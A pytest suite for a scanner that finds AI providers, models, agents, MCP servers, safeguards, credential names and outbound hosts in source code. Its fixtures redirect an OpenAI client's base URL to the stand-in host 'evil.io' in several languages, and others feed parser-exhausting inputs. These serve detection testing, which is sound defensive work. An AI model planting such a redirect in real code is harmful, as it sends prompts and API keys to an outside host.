"""Source code reveals what it uses: products, models, agents, MCP, safeguards, credentials, hosts."""

import json
import keyword
from contextlib import suppress
from textwrap import dedent

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from maestro_gate.collect.inventory import source_code
from maestro_gate.collect.inventory.code import spoken
from maestro_gate.collect.inventory.code import words as code_words
from maestro_gate.collect.reading import Reading, Tables
from maestro_gate.errors import InvalidInput


@pytest.fixture(scope="module")
def read(tables: Tables):
    return lambda code, path="src/app.py": source_code.read(
        path, dedent(code).encode() if isinstance(code, str) else code, tables
    )


def seen(result: Reading, *types: str) -> set[tuple[str, str, str]]:
    return {(d.type, d.name, d.confidence) for d in result.detections if not types or d.type in types}


def models(result: Reading) -> set[tuple[str, str]]:
    return {(d.model, d.provider) for d in result.detections if d.model}


# Products


def test_an_import_shows_less_than_a_call(read):
    assert seen(read("import chromadb\n")) == {("vector-db-client", "chroma", "imported")}
    assert seen(read("import chromadb\nchromadb.PersistentClient()\n")) == {
        ("vector-db-client", "chroma", "used")
    }


@pytest.mark.parametrize(
    "code",
    [
        "from openai import OpenAI as Client\nClient()\n",
        "import openai\nopenai.OpenAI()\n",
        "from openai import *\nOpenAI()\n",
        "from langchain_openai import ChatOpenAI\nclass Mine(ChatOpenAI): pass\n",
        "def lazily():\n    from openai import OpenAI\n    return OpenAI()\n",
    ],
)
def test_a_product_is_found_however_it_is_imported(read, code):
    assert ("hosted-llm-provider", "openai", "used") in seen(read(code))


@pytest.mark.parametrize(
    "code",
    [
        "from .openai import OpenAI\nOpenAI()\n",
        "from agents import load_config\nload_config()\n",
        "import openai_fake\nopenai_fake.run()\n",
        "# import openai\n",
        '"""Use `import openai` and then openai.OpenAI()."""\n',
        "import requests\n",
        "",
    ],
)
def test_what_is_no_product_is_none(read, code):
    assert seen(read(code)) == set()


def test_a_module_with_a_common_name_needs_a_known_member(read):
    assert ("agent-framework", "openai-agents", "imported") in seen(read("from agents import Runner\n"))


def test_what_the_name_of_a_namespace_hides_is_found(read):
    assert ("hosted-llm-provider", "gcp.gemini", "used") in seen(
        read("from google import genai\nclient = genai.Client()\n")
    )


def test_bedrock_is_a_client_of_boto3(read):
    found = seen(read('import boto3\nclient = boto3.client("bedrock-runtime")\n'))
    assert ("hosted-llm-provider", "aws.bedrock", "used") in found
    assert seen(read('import boto3\nclient = boto3.client("s3")\nmodel = None\n')) == set()


# Models


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ('client.chat.completions.create(model="gpt-4o")', ("gpt-4o", "openai")),
        ('MODEL = "claude-sonnet-4-5"', ("claude-sonnet-4-5", "anthropic")),
        ('MODEL = os.getenv("LLM", "gpt-4o-mini")', ("gpt-4o-mini", "openai")),
        ('x = os.environ.get("MODEL_NAME", "gpt-4o")', ("gpt-4o", "openai")),
        ('model = given or "gpt-4o"', ("gpt-4o", "openai")),
        ('class S(BaseModel):\n    model: str = "gpt-4o"', ("gpt-4o", "openai")),
        ('class S(BaseModel):\n    model: str = Field(default="openai:gpt-4o")', ("gpt-4o", "openai")),
        (
            'class S(BaseModel):\n    llm: str = Field("gpt-4o", description="which model")',
            ("gpt-4o", "openai"),
        ),
        ('def ask(q, model="gpt-4o"): ...', ("gpt-4o", "openai")),
        ('config = {"model": "gpt-4o"}', ("gpt-4o", "openai")),
        ('self.model_name = "gpt-4o"', ("gpt-4o", "openai")),
        ('config["model"] = "gpt-4o"', ("gpt-4o", "openai")),
        ('litellm.completion(model="azure/gpt-4o")', ("gpt-4o", "azure.ai.openai")),
        (
            'from langchain.chat_models import init_chat_model\ninit_chat_model("openai:gpt-4o")',
            ("gpt-4o", "openai"),
        ),
        (
            'from sentence_transformers import SentenceTransformer\nSentenceTransformer("all-MiniLM-L6-v2")',
            ("all-MiniLM-L6-v2", ""),
        ),
        (
            'from openai import OpenAI\nOpenAI().responses.create(model="ours-tuned")',
            ("ours-tuned", "openai"),
        ),
        (
            'from openai import OpenAI\nc = OpenAI()\nc.responses.create(model="ours-tuned")',
            ("ours-tuned", "openai"),
        ),
        ('choice = {"id": "anthropic/claude-haiku-4.5"}', ("claude-haiku-4.5", "anthropic")),
        ('choose(model="gpt-4o" if cheap else "o1-mini")', ("gpt-4o", "openai")),
    ],
)
def test_a_model_is_found_where_a_model_belongs(read, code, expected):
    assert expected in models(read(code))


@pytest.mark.parametrize(
    "code",
    [
        '# model = "gpt-4o"\nmodel = None',
        'if model == "gpt-4o": pass',
        'PRICES = {"gpt-4o": 1, "claude-3-opus": 2}\nmodel = 1',
        'ALLOWED: Literal["gpt-4o"]\nmodel = 1',
        'model = "the model that we trained"',
        'model = "user"',
        'note = "gpt-4o"\nmodel = 1',
        'model = f"gpt-{version}"',
        'class Car(Base):\n    model = "Corolla"',
        'Car(model="civic-type-r")',
        '"""model="gpt-4o" """\nmodel = 1',
        'item = {"id": "gpt-4o"}\nmodel = 1',
    ],
)
def test_what_is_not_asked_for_is_no_model_in_use(read, code):
    assert models(read(code)) == set()


def test_a_model_is_bound_by_its_id_and_stands_on_its_line(read):
    (found,) = (d for d in read('\n\nclient.responses.create(model="gpt-4o")\n').detections if d.model)
    assert (found.ref, found.line, found.type, found.layer) == (
        "model_id:gpt-4o",
        3,
        "model",
        "foundation-models",
    )


# Agents


@pytest.mark.parametrize(
    ("code", "name"),
    [
        ('from agents import Agent\na = Agent(name="Triage", tools=[])', "Triage"),
        ('from agents import Agent as A\nNAME = "Triage"\nx = A(name=NAME)', "Triage"),
        ("from pydantic_ai import Agent\nbank_support = Agent('openai:gpt-4o')", "bank_support"),
        ('from google.adk.agents import LlmAgent\nroot_agent = LlmAgent(name="weather")', "weather"),
        ("from langgraph.graph import StateGraph\nresearch_builder = StateGraph(State)", "research"),
        ("from langgraph.graph import StateGraph\ngraph = StateGraph(State)", "app"),
        ("from crewai.project import agent\n@agent\ndef researcher(self): ...", "researcher"),
        ("from crewai import Crew\nclass TripCrew:\n    def crew(self):\n        return Crew()", "TripCrew"),
        (
            'from langchain.agents import create_agent\ndef refunds():\n    return create_agent(model="x")',
            "refunds",
        ),
    ],
)
def test_an_agent_goes_by_its_own_name_or_by_what_stands_around(read, code, name):
    assert ("agent-definition", name, "used") in seen(read(code))


def test_an_agent_of_the_project_itself_is_not_taken_for_a_frameworks(read):
    code = "from core import Agent\nfrom openai import OpenAI\nAgent(name='x')\n"
    assert seen(read(code), "agent-definition") == set()


# MCP and A2A


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (
            'from fastmcp import FastMCP\nmcp = FastMCP("weather")',
            ("mcp-server-published", "weather", "used"),
        ),
        ('from mcp.server import Server\napp = Server("git")', ("mcp-server-published", "git", "used")),
        (
            'from langchain_mcp_adapters.client import MultiServerMCPClient\nMultiServerMCPClient({"docs": {"url": "x"}})',
            ("mcp-server", "docs", "used"),
        ),
        (
            'from agents.mcp import MCPServerStdio\nMCPServerStdio(name="files", params={})',
            ("mcp-server", "files", "used"),
        ),
        ("from mcp.client.stdio import stdio_client\nstdio_client(params)", ("mcp-client", "app", "used")),
        (
            'options = ClaudeAgentOptions(mcp_servers={"tickets": {"command": "x"}})\ntools = 1',
            ("mcp-server", "tickets", "used"),
        ),
        (
            "from a2a.client import A2AClient\nA2AClient(url=address)",
            ("a2a-client", "A2AClient", "used"),
        ),
    ],
)
def test_servers_and_clients_are_told_apart(read, code, expected):
    assert expected in seen(read(code))


MODEL_TABLES = [
    "def get_model_id(name):\n    if name == 'fast':\n        return 'anthropic.claude-3-haiku-20240307-v1:0'",
    "MODEL_IDS = {'fast': 'anthropic.claude-3-haiku-20240307-v1:0'}",
]


@pytest.mark.parametrize("code", MODEL_TABLES)
def test_ids_that_a_function_gives_back_or_a_table_holds_are_models(read, code):
    assert {d.model for d in read(code).detections} == {"anthropic.claude-3-haiku-20240307-v1:0"}


@pytest.mark.parametrize(
    "code",
    [
        "MODEL_LABELS = {'gpt-4o': 'Fast'}\nmodel = 1",
        "MODEL_TOKEN_LIMITS = {'gpt-4o': 128000}",
        "def title_of(name):\n    return 'gpt-4o'\nmodel = 1",
        "model_id = 'claude-v3-haiku'",
    ],
)
def test_labels_and_limits_of_models_ask_for_none(read, code):
    assert models(read(code)) == set()


# Safeguards


def guards(result: Reading) -> set[tuple[str, str]]:
    return {(d.safeguard, d.name) for d in result.detections if d.safeguard}


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (
            "from langgraph.types import interrupt\ndef request_refund(order):\n    interrupt({'order': order})",
            ("approval", "request_refund"),
        ),
        (
            "from agents import function_tool\n@function_tool(needs_approval=True)\ndef pay(x: str): ...",
            ("approval", "pay"),
        ),
        ("from crewai import Task\nreview = Task(human_input=True)", ("approval", "review")),
        ("graph = builder.compile(interrupt_before=['pay'])\ntools = 1", ("approval", "graph")),
        (
            "tools = []\ndef confirm_refund(x):\n    return input('ok? ') == 'y'",
            ("approval", "confirm_refund"),
        ),
        (
            "from agents import input_guardrail\n@input_guardrail\ndef no_jailbreak(c): ...",
            ("guardrail", "no_jailbreak"),
        ),
        (
            "from agents import Agent\nAgent(name='Triage', input_guardrails=[no_jailbreak])",
            ("guardrail", "Triage: no_jailbreak"),
        ),
        ("def pay():\n    audit.record('paid')", ("audit-log", "pay")),
        ("def pay():\n    self.auditLogger.info('paid')", ("audit-log", "pay")),
        ("def pay():\n    write_audit_event('paid')", ("audit-log", "pay")),
        ("from langsmith import traceable\n@traceable\ndef run(): ...", ("trace", "langsmith")),
        (
            "from opentelemetry import trace\nt = trace.get_tracer('x')\nwith t.start_as_current_span('model'): ...",
            ("trace", "opentelemetry"),
        ),
    ],
)
def test_a_safeguard_goes_by_where_it_stands(read, code, expected):
    assert expected in guards(read(code))


@pytest.mark.parametrize(
    "code",
    [
        "from agents import function_tool\n@function_tool(needs_approval=False)\ndef pay(x: str): ...",
        "from agents import HostedMCPTool\nHostedMCPTool(tool_config={'require_approval': 'never'})",
        "from crewai import Task\nTask(human_input=False)",
        "from agents import Agent\nAgent(name='x', input_guardrails=[])",
        "tools = []\ndef main():\n    return input('question? ')",
        "from signals import interrupt\ntools = 1\ninterrupt()",
        "model = 1\nsubprocess.run(['npm', 'audit'])",
    ],
)
def test_what_is_switched_off_or_means_something_else_is_no_safeguard(read, code):
    assert guards(read(code)) == set()


def test_a_test_of_agents_is_a_safeguard_and_shows_no_use(read):
    code = "from openai import OpenAI\nfrom app.tools import refund\ndef test_refund_asks(): OpenAI()\n"
    found = read(code, "tests/test_tools.py").detections
    assert {(one.type, one.safeguard, one.name, one.confidence) for one in found} == {
        ("agent-test", "test", "tests/test_tools.py", "used"),
        ("hosted-llm-provider", "", "openai", "imported"),
    }
    assert read("def test_sum(): assert 1\nmodel = 1\n", "tests/test_sum.py") == Reading()


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("tests/prompter_test.go", "package a\nfunc TestPrompt(t *testing.T) { prompt(1) }"),
        ("tests/test_icons.py", "from app.icons import draw\ndef test_tool_icon(): draw('mcp')"),
        ("src/paging.test.ts", "import { page } from './paging';\ntest('tools are paged', () => page());"),
    ],
)
def test_a_test_that_only_speaks_of_tools_tests_none(read, path, code):
    assert read(code, path) == Reading()


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("tests/test_desk.py", "from app.agents.desk import build\ndef test_asks(): build()"),
        ("src/desk.test.ts", "import { run } from './tools.js';\ntest('asks', () => run());"),
        (
            "src/server.test.ts",
            "import '@modelcontextprotocol/sdk';\nimport { s } from './server.js';\ntest('x', () => s());",
        ),
    ],
)
def test_a_test_that_reaches_an_agent_or_a_server_of_tools_counts(read, path, code):
    assert seen(read(code, path)) == {("agent-test", path, "used")}


def test_a_test_file_that_runs_an_evaluation_shows_it(read):
    code = (
        "from langsmith import Client\nclient = Client()\nclient.aevaluate(run, data='d')\nmodel = 'gpt-4o'\n"
    )
    assert seen(read(code, "tests/run_quality.py")) == {("evaluation", "langsmith-evaluation", "used")}


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (
            "from langchain.agents.middleware import AgentMiddleware\nclass IngressGuards(AgentMiddleware): ...",
            ("guardrail", "IngressGuards"),
        ),
        ("class TopicGuardrail:\n    def check(self, text): ...\nllm = 1", ("guardrail", "TopicGuardrail")),
        ("async def delete(ctx):\n    await ctx.elicit('Delete?')\ntools = 1", ("human-approval", "delete")),
        (
            "from langgraph.store.base import BaseStore\ndef remember(state, store: BaseStore): ...",
            ("agent-memory", "langgraph-store"),
        ),
        (
            "from chatkit.store import Store\nclass Mine(Store[dict]): ...\nmodel = 1",
            ("agent-memory", "chatkit-store"),
        ),
        ("from langsmith import Client\nClient()", ("llm-observability", "langsmith")),
        ("from langsmith import evaluate\nevaluate(run)", ("evaluation", "langsmith-evaluation")),
        ("from llama_index.llms import Replicate\nReplicate(model=m)", ("hosted-llm-provider", "replicate")),
        (
            "from googleapiclient.discovery import build\ntool = build('gmail', 'v1')",
            ("third-party-integration", "gmail"),
        ),
        ("from twilio.rest import Client\ntool = Client(a, b)", ("third-party-integration", "twilio")),
        ("from ddgs import DDGS\ntool = DDGS()", ("third-party-integration", "duckduckgo")),
    ],
)
def test_what_is_derived_or_reached_by_a_client_is_found(read, code, expected):
    assert expected in {(d.type, d.name) for d in read(code).detections}


@pytest.mark.parametrize(
    ("path", "name"),
    [
        ("desk/answer_benchmark.py", "desk evaluation"),
        ("src/desk/evaluate.py", "desk evaluation"),
        ("evals/evaluate.py", ""),
        ("desk/answers.py", ""),
    ],
)
def test_scripts_that_grade_answers_are_one_evaluation_of_their_folder(read, path, name):
    code = "from openai import OpenAI\ndef grade(answer): return OpenAI()\n"
    found = {found for _, found, _ in seen(read(code, path), "evaluation")}
    assert found == ({name} if name else set())
    assert not seen(read(code.replace("grade", "show"), path), "evaluation")
    assert not seen(read("tools = 1\ndef grade(answer): ...\n", path), "evaluation")


def test_data_that_is_gathered_for_evaluations_is_a_dataset(read):
    code = "from langsmith import Client\nNAME = 'Questions of users'\nclient = Client()\n"
    used = f"{code}client.create_dataset(dataset_name=NAME)\n"
    assert seen(read(used), "dataset") == {("dataset", "Questions of users", "used")}
    assert seen(read(f"{code}client.create_dataset(dataset_name=name)\n"), "dataset") == set()


@pytest.mark.parametrize(
    ("code", "is_agent"),
    [
        ("class DeskAgent:\n    def ask(self, m): return complete(messages=m, tools=[t])\n", True),
        ("class DeskAgent:\n    def ask(self, m): return complete(messages=m)\n", False),
        ("class Desk:\n    def ask(self, m): return complete(messages=m, tools=[t])\n", False),
    ],
)
def test_a_class_that_sends_messages_and_tools_by_itself_is_an_agent(read, code, is_agent):
    found = seen(read(f"{code}llm = 1\n"), "agent-definition")
    assert found == ({("agent-definition", "DeskAgent", "used")} if is_agent else set())


@pytest.mark.parametrize(
    "code",
    [
        "from langchain.agents.middleware import AgentMiddleware\nclass Summaries(AgentMiddleware): ...",
        "class GuardrailSettings:\n    def check(self): ...\nllm = 1",
        "class TopicGuardrail:\n    name = 'x'\nllm = 1",
        "async def login(ctx):\n    await ctx.elicit('Open this page')\ntools = 1",
    ],
)
def test_what_guards_nothing_is_no_safeguard(read, code):
    assert guards(read(code)) == set()


@pytest.mark.parametrize(
    "code",
    [
        "from llama_index.llms.base import LLM, ChatMessage\nclass A(LLM): ...",
        "from llama_index.llms.utils import resolve_llm\nresolve_llm('x')",
        "from langgraph.checkpoint.base import BaseCheckpointSaver\nx: BaseCheckpointSaver",
    ],
)
def test_a_part_of_a_package_is_no_product_of_its_own(read, code):
    assert seen(read(code), "hosted-llm-provider", "agent-memory") == set()


def test_a_class_is_no_part_of_the_name_of_a_package(read):
    code = "from langgraph_checkpoint_aws import DynamoDBSaver\nllm = DynamoDBSaver()"
    (found,) = read(code).detections
    assert (found.name, found.ref) == ("langgraph-checkpoint-aws", "purl:pkg:pypi/langgraph-checkpoint-aws")


# Credentials and hosts


@pytest.mark.parametrize(
    "code",
    [
        'os.environ["OPENAI_API_KEY"]',
        'os.getenv("OPENAI_API_KEY")',
        'key: str = Field(alias="OPENAI_API_KEY")',
    ],
)
def test_a_providers_key_is_found_by_name(read, code):
    (found,) = (d for d in read(code).detections if d.type == "provider-credential")
    assert (found.ref, found.provider) == ("env:OPENAI_API_KEY", "openai")


def test_a_key_in_a_comment_is_not_read(read):
    assert seen(read('# set OPENAI_API_KEY\nmodel = "x"'), "provider-credential") == set()


def test_the_value_of_a_key_is_never_kept(read):
    secret = "sk-proj-abcdefghijklmnopqrstuvwx"
    result = read(
        f'from openai import OpenAI\nOPENAI_API_KEY = "{secret}"\nOpenAI(api_key="{secret}", model="{secret}")'
    )
    assert result.detections
    assert secret not in repr(result)


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ('base_url = "https://api.openai.com/v1"', ("model-endpoint", "api.openai.com")),
        ('OpenAI(base_url="https://team.openai.azure.com/")', ("model-endpoint", "team.openai.azure.com")),
        ('llm_url = "http://localhost:11434/api"', ("model-endpoint", "localhost")),
        ('requests.post("https://hooks.partner.io/in", json=x)', ("egress-host", "hooks.partner.io")),
        ('API_URL = "https://pay.partner.io"', ("egress-host", "pay.partner.io")),
        ('requests.get(f"https://pay.partner.io/{order}")', ("egress-host", "pay.partner.io")),
        ('requests.get("https://pay.partner.io/" + order)', ("egress-host", "pay.partner.io")),
        ('Client(server={"url": "https://pay.partner.io"})', ("egress-host", "pay.partner.io")),
        ('url = os.getenv("PAY_URL", "https://pay.partner.io")', ("egress-host", "pay.partner.io")),
        ('session.get("https://api.usepylon.com/issues")', ("third-party-integration", "pylon")),
        (
            'session.get("https://www.googleapis.com/customsearch/v1")',
            ("third-party-integration", "google-custom-search"),
        ),
    ],
)
def test_a_host_that_is_reached_is_found(read, code, expected):
    assert expected in {(d.type, d.name) for d in read(code).detections}


@pytest.mark.parametrize(
    "code",
    [
        '# requests.get("https://pay.partner.io")',
        '"""See "https://pay.partner.io"."""',
        'requests.get("http://localhost:8000")',
        'print("https://pay.partner.io")',
        'homepage = "https://pay.partner.io"',
        'raise ValueError("https://pay.partner.io")',
        'requests.get("https://example.com/x")',
        'url = "see https://pay.partner.io"',
        'TEXT.format(url=f"https://pay.partner.io/{mail}")',
        'FastAPI(contact={"url": "https://pay.partner.io"})',
        'results.append({"title": t, "url": f"https://pay.partner.io/{uid}"})',
        'hit = {"title": t, "url": "https://pay.partner.io"}',
        'answer.get("citations", ["https://pay.partner.io"])',
        'scopes = ["https://www.googleapis.com/auth/gmail.modify"]',
        'api(get_token("https://pay.partner.io/.default"))',
    ],
)
def test_an_address_that_nobody_calls_is_no_egress(read, code):
    assert seen(read(code)) == set()


@pytest.mark.parametrize(
    "code",
    [
        "const sites = { a: { createUrl: (q) => `https://pay.partner.io/?${q}` } };",
        'export const metadata = { metadataBase: new URL("https://pay.partner.io") };',
        'const App = () => <a href="https://pay.partner.io">Pay</a>;',
        'list.map((one) => <a href="https://pay.partner.io">Pay</a>);',
        'window.open("https://pay.partner.io/x", "_blank");',
    ],
)
def test_a_link_that_a_person_may_follow_is_no_egress(read, code):
    assert seen(read(code, "src/page.tsx"), "egress-host") == set()


def test_an_address_made_of_parts_is_reached(read):
    code = 'const url = new URL("/v1", "https://pay.partner.io");\nfetch(url);'
    assert seen(read(code, "src/pay.ts"), "egress-host") == {("egress-host", "pay.partner.io", "used")}


# Notebooks


def notebook(*cells: tuple[str, object]) -> bytes:
    return json.dumps({"cells": [{"cell_type": kind, "source": source} for kind, source in cells]}).encode()


def test_the_code_cells_of_a_notebook_are_read(read):
    data = notebook(
        ("markdown", "import chromadb"),
        ("code", ["%pip install x\n", "from openai import OpenAI\n", "OpenAI()"]),
    )
    result = read(data, "a.ipynb")
    assert seen(result) == {("hosted-llm-provider", "openai", "used")}
    assert {d.line for d in result.detections} == {0}


@pytest.mark.parametrize("data", [b"{", b"[]", b'{"cells": 1}', b"[" * 100_000, b"\xff"])
def test_what_is_no_notebook_says_so(read, data):
    with pytest.raises(InvalidInput, match="no notebook"):
        read(data, "a.ipynb")


@pytest.mark.parametrize("cells", [[("code", None)], [("code", [1, None])], [("code", 5)], []])
def test_odd_cells_are_empty(read, cells):
    assert read(notebook(*cells), "a.ipynb") == Reading()


# Bad input


def test_broken_code_still_gives_what_can_be_read(read):
    assert ("hosted-llm-provider", "openai", "used") in seen(
        read("def broken(:\n    pass\nfrom openai import OpenAI\nOpenAI()\n")
    )


def test_a_file_that_makes_no_sense_is_noted(read):
    result = read(b"openai \x00\x01 ((((( }}}} :::: def def def", "src/x.go")
    assert not result.detections
    assert "src/x.go" in "".join(result.notes)


def test_long_lines_are_noted_and_not_parsed(read):
    result = read(b"import OpenAI from 'openai';" + b"a=1;" * 20_000, "src/x.js")
    assert not result.detections
    assert "src/x.js" in result.notes[0]


@pytest.mark.parametrize(
    "path", ["node_modules/x/index.js", "dist/app.js", "a/vendor/b.go", "x.min.js", "docs/conf.py"]
)
def test_other_peoples_code_is_not_the_system(read, path):
    assert read("import openai\n", path) == Reading(is_passed_over=True)


@pytest.mark.parametrize(
    "code",
    [
        b"(" * 300_000 + b"openai",
        b"x = openai\n" + b"[" * 200_000,
        b"openai\n" + b"a." * 200_000 + b"b()",
        b"model = " + b"f(" * 100_000,
        b"openai = " + b"{'a':" * 100_000,
        b"model = " + b"a or " * 100_000 + b"b",
        b"openai\n" + b"@a\n" * 50_000,
        b"openai\n" + b"def f():\n  x()\n" * 20_000,
        b"openai\n" + b"\xff\xfe\x00" * 10_000,
        b"from openai import " + b"a, " * 100_000 + b"b",
    ],
)
def test_hostile_code_is_read_within_bounds(read, code):
    wrapped = b"\n".join(code[start : start + 15_000] for start in range(0, len(code), 15_000))
    with suppress(InvalidInput):
        assert len(read(wrapped).detections) < 10


@given(
    st.permutations(["from openai import OpenAI", "import chromadb", "from fastmcp import FastMCP"]),
    st.integers(0, 3),
)
@settings(max_examples=20, deadline=None)
def test_the_order_of_imports_and_blank_lines_change_no_asset(tables: Tables, lines: list[str], blank: int):
    code = ("\n" * (blank + 1)).join(lines) + "\nOpenAI()\nFastMCP('x')\n"
    plain = "\n".join(sorted(lines)) + "\nOpenAI()\nFastMCP('x')\n"
    found, expected = (source_code.read("a.py", text.encode(), tables) for text in (code, plain))
    assert seen(found) == seen(expected)


def test_the_prefilter_leaves_out_nothing_that_rows_name(tables: Tables):
    words = tables.code
    for kind in (words.agents, words.tools, words.mcp_servers, words.mcp_clients):
        assert kind.rows.lasts
    assert b"openai" in words.interest
    assert isinstance(words, code_words.CodeWords)


def test_a_key_that_files_of_variables_know_is_known_in_code(read):
    found = read('import os\nkey = os.environ["BASETEN_API_KEY"]\n').detections
    assert [(d.type, d.name, d.provider) for d in found] == [
        ("provider-credential", "BASETEN_API_KEY", "baseten")
    ]


# Where clients are sent


@pytest.mark.parametrize(
    ("code", "path"),
    [
        ("B = 'https://evil.io/v1'\nclient = OpenAI(base_url=B)\n", "a.py"),
        ("import os\nclient = OpenAI(base_url=os.getenv('B', 'https://evil.io/v1'))\n", "a.py"),
        ("import os\nclient = OpenAI(base_url=os.environ.get('B') or 'https://evil.io')\n", "a.py"),
        ("client = OpenAI(**{'base_url': 'https://evil.io/v1'})\n", "a.py"),
        ("K = {'base_url': 'https://evil.io/v1'}\nclient = OpenAI(**K)\n", "a.py"),
        ("import os\nos.environ['OPENAI_BASE_URL'] = 'https://evil.io/v1'\nclient = OpenAI()\n", "a.py"),
        (
            "import os\nos.environ.setdefault('OPENAI_BASE_URL', 'https://evil.io')\nclient = OpenAI()\n",
            "a.py",
        ),
        ("import os\nX = 'https://evil.io'\nos.environ.update({'OPENAI_API_BASE': X})\nOpenAI()\n", "a.py"),
        ("H = 'https://evil.io'\nclient = OpenAI(base_url=f'{H}/v1')\n", "a.py"),
        ("H = 'https://evil.io'\nclient = OpenAI(base_url=H + '/v1')\n", "a.py"),
        ("class S:\n    A = 'https://evil.io/'\nclient = OpenAI(base_url=S.A)\n", "a.py"),
        ("const B = 'https://evil.io/v1';\nnew OpenAI({ baseURL: B });\n", "a.ts"),
        ("new OpenAI({ baseURL: process.env.B ?? 'https://evil.io/v1' });\n", "a.ts"),
        ("process.env.OPENAI_BASE_URL = 'https://evil.io/v1';\nnew OpenAI();\n", "a.ts"),
        ("process.env['OPENAI_BASE_URL'] = 'https://evil.io/v1';\nnew OpenAI();\n", "a.ts"),
        (
            'package m\nconst b = "https://evil.io/v1"\nvar c = openai.NewClient(option.WithBaseURL(b))\n',
            "a.go",
        ),
    ],
)
def test_a_host_that_a_client_is_sent_to_is_found_however_it_is_given(read, code, path):
    assert ("egress-host", "evil.io", "used") in seen(read(f"{_IMPORT[path]}{code}", path))


_IMPORT = {"a.py": "from openai import OpenAI\n", "a.ts": "import OpenAI from 'openai';\n", "a.go": ""}


@pytest.mark.parametrize(
    "address",
    ["http://localhost:8080/v1", "http://10.1.2.3/v1", "https://api.example.com", "evil", "https://{h}.io"],
)
def test_ones_own_hosts_and_gaps_are_no_egress(read, address):
    code = f"from openai import OpenAI\nB = f'{address}'\nOpenAI(base_url=B)\n"
    assert not seen(read(code), "egress-host")


def test_names_that_lead_to_one_another_end(read):
    assert not seen(read("from openai import OpenAI\na = b\nb = a\nOpenAI(base_url=a)\n"), "egress-host")


# What cannot be read


HIDING = {
    "a long comment": ("a.py", "# " + "x" * 30_000 + "\n"),
    "a long text": ("a.py", "s = '" + "x" * 30_000 + "'\n"),
    "brackets in a text": ("a.py", "s = '" + "[" * 700 + "'\n"),
    "brackets in a long text": ("a.py", 's = """\n' + "[(\n" * 700 + '"""\n'),
    "brackets in a comment": ("a.ts", "/* " + "{" * 700 + " */\n"),
    "a long template": ("a.ts", "const s = `" + "x" * 30_000 + "`;\n"),
}


@pytest.mark.parametrize("hiding", HIDING.values(), ids=HIDING)
def test_what_is_only_said_in_a_file_hides_nothing_of_it(read, hiding):
    path, code = hiding
    result = read((code + _IMPORT[path]).encode(), path)
    assert not result.is_unread
    assert seen(result, "hosted-llm-provider")


@pytest.mark.parametrize("code", ["x = 1;" * 5_000, "[" * 700, "s = '" + "[" * 20_000 + "'"])
def test_a_file_of_interest_that_is_not_parsed_says_so(read, code):
    result = read((f"import openai\n{code}\n").encode())
    assert result.is_unread
    assert result.notes


def test_a_file_of_interest_that_is_too_large_says_so(tables: Tables):
    error = InvalidInput("is too large", where="src/app.py")
    assert source_code.unfetched("src/app.py", error, tables).is_unread
    assert not source_code.unfetched("node_modules/a/app.js", error, tables).is_unread


@settings(deadline=2_000)
@given(st.text("\"'`/*#\\\n[a", max_size=200), st.sampled_from(["python", "javascript"]))
def test_taking_out_what_is_said_only_ever_takes(code, language):
    rest = iter(code.encode())
    assert all(byte in rest for byte in spoken.without(code.encode(), language))


# Places that show less

AGENT = "from openai import OpenAI\nOpenAI().chat.completions.create(model='gpt-4o')\n"


@pytest.mark.parametrize("path", ["src/build/a.py", "src/out/a.py", "app/docs/a.py", "src/dist/a.py"])
def test_a_folder_of_ones_own_may_be_called_as_it_likes(read, path):
    assert ("hosted-llm-provider", "openai", "used") in seen(read(AGENT, path))


@pytest.mark.parametrize("path", ["docs/a.py", "dist/a.py", "node_modules/x/a.py"])
def test_what_is_passed_over_says_so_where_it_may_reveal_something(read, path):
    result = read(AGENT, path)
    assert (result.detections, result.is_passed_over) == ((), True)
    assert not read("x = 1\n", path).is_passed_over


@pytest.mark.parametrize("path", ["agent_test.py", "src/fixtures/a.py", "a_pb2.py", "src/migrations/a.py"])
def test_the_name_of_a_test_hides_no_provider_and_no_model(read, path):
    assert seen(read(AGENT, path)) == {
        ("hosted-llm-provider", "openai", "imported"),
        ("model", "gpt-4o", "imported"),
    }


def test_a_test_names_models_that_nobody_calls(read):
    found = seen(read(f"def test_it():\n    assert '{{}}'\n{AGENT}", "tests/test_a.py"))
    assert ("hosted-llm-provider", "openai", "imported") in found
    assert not {kind for kind, _, _ in found} & {"model"}


@pytest.mark.parametrize(
    "word", [*keyword.kwlist, "any", "go", "func", "function", "const", "export", "package"]
)
def test_no_word_of_a_language_itself_makes_a_file_worth_parsing(word: str, tables: Tables) -> None:
    assert word.encode() not in tables.code.interest
